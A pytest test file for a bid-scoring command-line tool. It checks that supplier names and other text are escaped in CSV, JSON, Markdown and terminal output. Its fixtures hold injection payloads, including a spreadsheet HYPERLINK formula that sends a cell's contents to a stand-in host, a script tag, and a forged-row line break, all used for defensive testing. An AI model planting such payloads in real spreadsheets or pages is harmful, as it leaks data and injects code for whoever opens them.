"""What the results look like to other programs, to a terminal, and to whoever opens them in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.cli.command import social_value
from tests.faults.procurement import ALPHA, FLAT, PROCUREMENT, SMALL, changed, write

ESCAPE = "\x1b"
FORMATS = ("table", "json", "csv", "markdown")
DANGEROUS = [
    '=HYPERLINK("http://example.org/?"&A1)',
    "=1+1",
    "+1 Ltd",
    "-1 Ltd",
    "@SUM(A1)",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]
HARMLESS = ["A+ Services", "Tŷ Gwyn", "O'Neill & Sons", "3M", "50/50", "a=b"]


@pytest.fixture(autouse=True)
def _in_the_folder_above(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run every command from the folder above the procurement."""
    monkeypatch.chdir(tmp_path)


def named(supplier: str) -> Path:
    """Write a procurement in which alpha's supplier has this name."""
    name = json.dumps(supplier, ensure_ascii=False)
    return write(Path("small"), {**SMALL, "bids/alpha.yaml": changed(ALPHA, "Alpha Works", name)})


def rows(text: str) -> list[dict[str, str]]:
    """Read a CSV result."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


class TestNames:
    """Text from suppliers is data everywhere."""

    @pytest.mark.parametrize("supplier", DANGEROUS)
    def test_a_formula_in_a_name_is_text_in_csv_and_raw_in_json(self, supplier: str) -> None:
        """In CSV a name that a spreadsheet would run gets an apostrophe; JSON has it as the supplier wrote it."""
        folder = named(supplier)
        found = rows(social_value("score", folder, "--format", "csv").out)
        assert {row["supplier"] for row in found if row["bid"] == "alpha"} == {f"'{supplier}"}
        result = json.loads(social_value("score", folder, "--format", "json").out)
        assert result["bids"][0]["supplier"] == supplier

    @pytest.mark.parametrize("supplier", HARMLESS)
    def test_an_ordinary_name_is_left_as_it_is(self, supplier: str) -> None:
        """A sign inside a name harms nobody."""
        found = rows(social_value("score", named(supplier), "--format", "csv").out)
        assert {row["supplier"] for row in found if row["bid"] == "alpha"} == {supplier}

    def test_negative_numbers_stay_numbers_in_csv(self) -> None:
        """A measure below zero is a plain number, not a formula."""
        method = changed(PROCUREMENT, "zero_at: 10", "zero_at: -10")
        bid = changed(ALPHA, "value: 4", "value: -2.5")
        write(Path("small"), {**SMALL, "procurement.yaml": method, "bids/alpha.yaml": bid})
        found = rows(social_value("score", "small", "--format", "csv").out)
        assert [row["read"] for row in found if (row["bid"], row["criterion"]) == ("alpha", "E1")] == ["-2.50"]

    @pytest.mark.parametrize(
        "supplier", ["[red]x[/red]", "[/]", "[link=http://a]b[/link]", ":warning: Ltd", "[bold", "\\[x"]
    )
    @pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
    def test_markup_in_a_name_is_printed_as_it_is(
        self, supplier: str, terminal: bool, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """What the terminal library would take for markup is shown as the supplier wrote it."""
        monkeypatch.setenv("TERM", "xterm-256color")
        monkeypatch.setenv("COLUMNS", "200")
        folder = named(supplier)
        assert supplier in social_value("score", folder, terminal=terminal).out
        assert supplier in social_value("explain", folder, "--bid", "alpha", terminal=terminal).out

    def test_markup_in_titles_and_reasons_is_printed_as_it_is(self) -> None:
        """The same holds for titles of the procurement and its criteria, and for the reasons of evaluators."""
        method = changed(PROCUREMENT, "A small procurement", '"[/] [red]small[/red]"')
        method = changed(method, "Access for everybody", '"[blink]Access[/]"')
        scores = SMALL["scores/evaluator-1.yaml"].replace("Every route is staffed.", "[/] staffed")
        write(Path("small"), {**SMALL, "procurement.yaml": method, "scores/evaluator-1.yaml": scores})
        assert social_value("score", "small").out.startswith("[/] [red]small[/red]")
        explained = social_value("explain", "small", "--bid", "alpha").out
        assert "S1 [blink]Access[/] (Social, weight 30)" in explained
        assert "Reason: [/] staffed" in explained

    def test_a_name_of_several_lines_stays_on_one(self) -> None:
        """A line break in a name cannot forge a line of the ranking."""
        folder = named("Acme\n    1  beta   Beta Yard   Ranked  99.00")
        lines = social_value("score", folder).out.splitlines()
        assert sum(line.lstrip().startswith("1 ") for line in lines) == 1
        assert len(rows(social_value("score", folder, "--format", "csv").out)) == 6
        markdown = social_value("score", folder, "--format", "markdown").out
        assert sum(line.startswith("|") for line in markdown.splitlines()) == 4

    @pytest.mark.parametrize(
        "supplier", ["<script>alert(1)</script>", "a | b", "[x](http://y)", "*x* _y_", "# x", "![a](b)"]
    )
    def test_markup_in_a_name_is_escaped_in_markdown(self, supplier: str) -> None:
        """No sign of Markdown or HTML in a name stands without a backslash."""
        line = next(
            line
            for line in social_value("score", named(supplier), "--format", "markdown").out.splitlines()
            if "alpha" in line
        )
        cell = re.split(r"(?<!\\) \| ", line)[2]
        assert not re.search(r"(?<!\\)[*_\[\]()<>#!|`]", cell)
        assert re.sub(r"\\(.)", r"\1", cell) == supplier


class TestTerminal:
    """Colour is for a terminal, and never the only signal."""

    @pytest.mark.parametrize("output_format", FORMATS)
    def test_a_pipe_gets_plain_text(self, output_format: str) -> None:
        """Nothing that is piped on holds a control sequence."""
        write(Path("small"))
        assert ESCAPE not in social_value("score", "small", "--format", output_format).out

    def test_a_terminal_gets_colour(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """On a terminal the table is coloured, and says the same as without colour."""
        monkeypatch.setenv("TERM", "xterm-256color")
        monkeypatch.setenv("COLUMNS", "160")
        monkeypatch.delenv("NO_COLOR", raising=False)
        write(Path("small"))
        coloured = social_value("score", "small", "--no-progress", terminal=True).out
        assert ESCAPE in coloured
        plain = social_value("score", "small").out
        assert re.sub(r"\x1b\[[0-9;]*m", "", coloured).split() == plain.split()

    def test_no_color_is_plain_text(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """``NO_COLOR`` leaves no control sequence at all, also on a terminal."""
        monkeypatch.setenv("TERM", "xterm-256color")
        monkeypatch.setenv("COLUMNS", "160")
        monkeypatch.setenv("NO_COLOR", "1")
        write(Path("small"))
        done = social_value("score", "small", "--no-progress", terminal=True)
        assert ESCAPE not in done.out + done.err

    def test_progress_is_shown_on_a_terminal_alone(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Each stage is named on stderr while it lasts, and a pipe is told nothing."""
        monkeypatch.setenv("TERM", "xterm-256color")
        write(Path("small"))
        done = social_value("score", "small", "-o", "report.xlsx", terminal=True)
        for stage in ("Reading", "Scoring", "Writing the workbook"):
            assert stage in done.err
        assert social_value("score", "small").err == ""

    @pytest.mark.parametrize("words", [["--no-progress"], ["--quiet"]])
    def test_progress_can_be_left_out(self, words: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
        """Without progress nothing but the result is written, also on a terminal."""
        monkeypatch.setenv("TERM", "xterm-256color")
        write(Path("small"))
        assert social_value("score", "small", *words, terminal=True).err == ""


class TestFormats:
    """JSON, CSV and the table say the same."""

    def test_csv_has_a_row_a_bid_and_criterion(self) -> None:
        """The tidy table has every mark, with the bid, its pillar, and its weighted marks."""
        write(Path("small"))
        found = rows(social_value("score", "small", "--format", "csv").out)
        assert [(row["bid"], row["criterion"], row["pillar"], row["weight"]) for row in found[:3]] == [
            ("alpha", "F1", "financial", "60"),
            ("alpha", "E1", "environmental", "10"),
            ("alpha", "S1", "social", "30"),
        ]
        assert [(row["read"], row["marks"], row["weighted"]) for row in found] == [
            ("120.00", "80.00", "48.00"),
            ("4.00", "60.00", "6.00"),
            ("5.00", "100.00", "30.00"),
            ("150.00", "50.00", "30.00"),
            ("5.00", "50.00", "5.00"),
            ("3.00", "60.00", "18.00"),
        ]

    def test_csv_and_json_have_equal_marks(self) -> None:
        """Every mark of the CSV is the mark of the JSON."""
        write(Path("small"))
        result: dict[str, Any] = json.loads(social_value("score", "small", "--format", "json").out)
        from_json = [
            (bid["id"], one["id"], bid["total"], one["weight"], one["marks"], one["weighted"])
            for bid in result["bids"]
            for one in bid["criteria"]
        ]
        columns = ("bid", "criterion", "total", "weight", "marks", "weighted")
        found = rows(social_value("score", "small", "--format", "csv").out)
        assert [tuple(row[name] for name in columns) for row in found] == from_json

    def test_markdown_has_the_ranking(self) -> None:
        """The Markdown table has rank, total and the three pillars of every bid."""
        write(Path("small"))
        lines = social_value("score", "small", "--format", "markdown").out.splitlines()
        assert lines[0] == "# A small procurement"
        assert "| 1 | alpha | Alpha Works | Ranked | 84.00 | 80.00 | 60.00 | 100.00 |" in lines
        assert "| 2 | beta | Beta Yard | Ranked | 53.00 | 50.00 | 50.00 | 60.00 |" in lines

    def test_flat_files_and_yaml_give_the_same_marks(self) -> None:
        """The form of the input does not show in the result."""
        method = FLAT["procurement.yaml"]
        declared = "declarations:\n  living-wage: {value: true}\n"
        bids = {name: SMALL[name].replace(declared, "") for name in ("bids/alpha.yaml", "bids/beta.yaml")}
        scores = SMALL["scores/evaluator-1.yaml"].replace(", conflict: none", "").replace(", role: resident", "")
        write(Path("flat"), FLAT)
        write(Path("yaml"), {"procurement.yaml": method, **bids, "scores/evaluator-1.yaml": scores})
        results = [json.loads(social_value("score", folder, "--format", "json").out) for folder in ("flat", "yaml")]
        for result in results:
            del result["inputs"]
        assert results[0] == results[1]
